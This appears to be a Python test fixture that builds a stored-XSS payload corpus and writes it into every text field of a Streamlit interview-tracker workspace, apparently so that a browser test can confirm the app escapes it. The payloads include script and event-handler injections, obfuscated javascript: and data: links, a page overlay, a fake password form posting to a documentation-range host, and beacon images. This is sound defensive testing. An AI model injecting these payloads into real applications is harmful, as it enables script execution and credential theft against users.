"""A stored-XSS payload corpus and a workspace filled with it (for ``test_xss_sweep.py``).

Every payload carries the marker ``slx`` so an element built from it can be told apart from Streamlit's
own markup, and every remote address is on TEST-NET-3 (``203.0.113.0/24``, reserved for documentation:
nothing answers there, and the browser tests abort any request to it anyway).

``seed_workspace`` writes the corpus into every user-editable text field through ``lib.storage.repo`` and
returns a :class:`Seeded` record saying which value went where, so the test can look for each one.
"""

from __future__ import annotations

import datetime as dt
import re
from dataclasses import dataclass

import sqlalchemy as sa

from lib import models as m
from lib.storage import repo, workspace

MARK = "slx"
BEACON_HOST = "203.0.113.9"
_JS = "window.__slxPwned=1;alert(document.domain)"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS: tuple[Payload, ...] = (
    Payload("img-onerror", f'<img src=x onerror="{_JS}">slx-img'),
    Payload("svg-onload", f'<svg onload="{_JS}"><circle r=9 /></svg>slx-svg'),
    Payload("script", f"<script>{_JS}</script>slx-script"),
    Payload("md-js-link", "[slx-md-js](javascript:alert(1))"),
    Payload("md-js-mixed-case", "[slx-md-mixed](JaVaScRiPt:alert(1))"),
    Payload("md-js-entity", "[slx-md-entity](&#106;avascript:alert(1))"),
    Payload("md-js-colon-entity", "[slx-md-colon](javascript&colon;alert(1))"),
    Payload("md-js-angle", "[slx-md-angle](<javascript:alert(1)>)"),
    Payload("html-js-link", "<a href=\"javascript:alert(1)\">slx-html-js</a>"),
    Payload("html-js-link-spaced", "<a href=\" jAvAsCrIpT:alert(1)\">slx-html-js-spaced</a>"),
    Payload("md-data-link", "[slx-md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Payload("html-data-link", "<a href=\"data:text/html,<b>slx</b>\">slx-html-data</a>"),
    Payload("style", "<style>body{display:none} .slx-style{color:red}</style>"),
    Payload("overlay", "<div id=\"slx-overlay\" style=\"position:fixed;inset:0;z-index:99999;"
                       "background:#c00\">slx-overlay</div>"),
    Payload("form", f"<form action=\"http://{BEACON_HOST}/slx-form\"><input name=slx-pw type=password>"
                    "<button>slx-sign-in</button></form>"),
    Payload("iframe", f"<iframe src=\"http://{BEACON_HOST}/slx-frame\"></iframe>"),
    Payload("md-image", f"![slx-beacon](http://{BEACON_HOST}/slx-beacon.png)"),
    Payload("html-image", f"<img src=\"http://{BEACON_HOST}/slx-img.png\">"),
    Payload("md-autolink", f"<http://{BEACON_HOST}/slx-autolink>"),
    Payload("st-directives", "slx-directives :red[alarm] :blue-background[calm] :material/bolt: :smile:"),
    Payload("md-ref-image", f"![slx-ref][slxr]\n[slxr]: http://{BEACON_HOST}/slx-ref.png"),
)

# For short fields (a title, a name): a remote image, a javascript: link and an onerror handler in one line.
SHORT = (f"![b](http://{BEACON_HOST}/slx-b.png)<img src=x onerror=\"{_JS}\">"
         "[j](javascript:alert(1))<a href=javascript:alert(1)>a</a>")
# A contact's email address may not hold spaces; it must still contain "@".
EMAIL = f"slx<img/src=x/onerror=alert(1)>![m](http://{BEACON_HOST}/slx-m.png)@example.org"


def corpus(code: str) -> str:
    """The whole corpus for a long text field, one payload per line, led by the field's code."""
    return "\n".join([f"{code} long text", *(p.text for p in PAYLOADS)])


def short(code: str) -> str:
    return f"{code} {SHORT}"


def lines(value: str) -> list[str]:
    """The lines of a stored value a page should show literally (whitespace is normalised later)."""
    return [ln for ln in value.splitlines() if ln.strip()]


def normalise(text: str) -> str:
    """Collapse whitespace and drop zero-width spaces (the app inserts one to stop autolinks: invisible)."""
    return re.sub(r"\s+", " ", text.replace("\u200b", "")).strip()


@dataclass(frozen=True)
class Seeded:
    """What ``seed_workspace`` stored: ids, and the value written into each field (by field code)."""

    interview_id: int
    other_interview_id: int
    evidence_id: int
    values: dict[str, str]


def seed_workspace(engine: sa.Engine, owner: str, *, now: dt.datetime, today: dt.date) -> Seeded:
    """A workspace whose every user-editable text field holds payloads (plus one clean interview)."""
    v: dict[str, str] = {}

    def long(code: str) -> str:
        v[code] = corpus(code)
        return v[code]

    def one(code: str) -> str:
        v[code] = short(code)
        return v[code]

    workspace.ensure_workspace(engine, owner, now=now)
    workspace.set_workspace(engine, owner, now=now, display_name=one("ws.name"), is_demo=False)
    ev = repo.add(engine, owner, m.Evidence(
        kind=m.EvidenceKind.STORY, title=one("ev.title"), body=long("ev.body"), situation=long("ev.situation"),
        task=long("ev.task"), action=long("ev.action"), result=long("ev.result"),
        tags=(one("ev.tag1"), f"slx-tag {PAYLOADS[0].text}"), competencies=("stakeholder_management",),
        source=one("ev.source")), now=now)
    repo.add(engine, owner, m.Evidence(kind=m.EvidenceKind.SKILL, title="SQL and Python data pipelines",
                                       body="Built nightly pipelines in Python and SQL.",
                                       competencies=("analytical_thinking",)), now=now)
    jd = ("Senior Data Analyst\n\nRequirements:\n- 3+ years of experience with SQL and Python\n"
          "- Strong stakeholder management\n") + long("iv.jd")
    v["iv.jd"] = jd
    iv = repo.add(engine, owner, m.Interview(
        company=one("iv.company"), role=one("iv.role"), interview_date=today - dt.timedelta(days=20),
        furthest_stage=m.Stage.FINAL_ROUND, stages=(m.Stage.SCREEN, m.Stage.FINAL_ROUND),
        outcome=m.Outcome.REJECTED, decided_on=today - dt.timedelta(days=10), jd_text=jd,
        interviewers=(one("iv.interviewer1"), "Ana Ruiz"), notes=long("iv.notes"),
        appraisal=long("iv.appraisal")), now=now)
    other = repo.add(engine, owner, m.Interview(
        company="Plain Harbour Ltd", role="Data Analyst", interview_date=today - dt.timedelta(days=60),
        outcome=m.Outcome.REJECTED, decided_on=today - dt.timedelta(days=50)), now=now)
    questions = []
    for n in (1, 2):
        questions.append(repo.add(engine, owner, m.ScriptItem(
            interview_id=iv.id, question=one(f"q{n}.question"), answer=long(f"q{n}.answer"), rating=n + 1,
            went_right=long(f"q{n}.right"), went_wrong=long(f"q{n}.wrong"), next_time=long(f"q{n}.next"),
            competencies=("stakeholder_management",), position=n - 1), now=now))
    contact = repo.add(engine, owner, m.Contact(interview_id=iv.id, name=one("ct.name"), role=one("ct.role"),
                                                email=EMAIL), now=now)
    v["ct.email"] = EMAIL
    repo.add(engine, owner, m.ContactAttempt(interview_id=iv.id, on=today - dt.timedelta(days=8),
                                             summary=long("at.summary"), contact_id=contact.id,
                                             outcome=m.AttemptOutcome.REPLIED), now=now)
    items = [repo.add(engine, owner, m.FeedbackItem(interview_id=iv.id, wording=long(f"fb{n}.wording"),
                                                    competency="stakeholder_management", position=n - 1), now=now)
             for n in (1, 2, 3)]
    repo.add(engine, owner, m.CasePoint(interview_id=iv.id, feedback_id=items[0].id, paragraph=long("cp.paragraph"),
                                        evidence_ids=(ev.id,)), now=now)
    repo.add(engine, owner, m.Letter(interview_id=iv.id, kind="feedback_request", tone="warm",
                                     subject=one("lt.subject"), body=long("lt.body")), now=now)
    repo.add(engine, owner, m.Letter(interview_id=iv.id, kind="reconsideration", tone="formal",
                                     subject=one("rc.subject"), body=long("rc.body")), now=now)
    repo.add(engine, owner, m.ActionItem(title=one("ac.title"), detail=long("ac.detail"), interview_id=iv.id,
                                         competency="stakeholder_management", due_on=today + dt.timedelta(days=7)),
             now=now)
    targets = ((m.CommentTarget.INTERVIEW, None, "cm.interview"), (m.CommentTarget.SCRIPT_ITEM, questions[0].id,
               "cm.question"), (m.CommentTarget.CASE, None, "cm.case"), (m.CommentTarget.ACTION_PLAN, None, "cm.plan"))
    for target, target_id, code in targets:
        repo.add(engine, owner, m.Comment(interview_id=iv.id, target=target, target_id=target_id, body=long(code),
                                          author_name=one(code + ".author"), created_at=now), now=now)
    return Seeded(interview_id=iv.id, other_interview_id=other.id, evidence_id=ev.id, values=v)
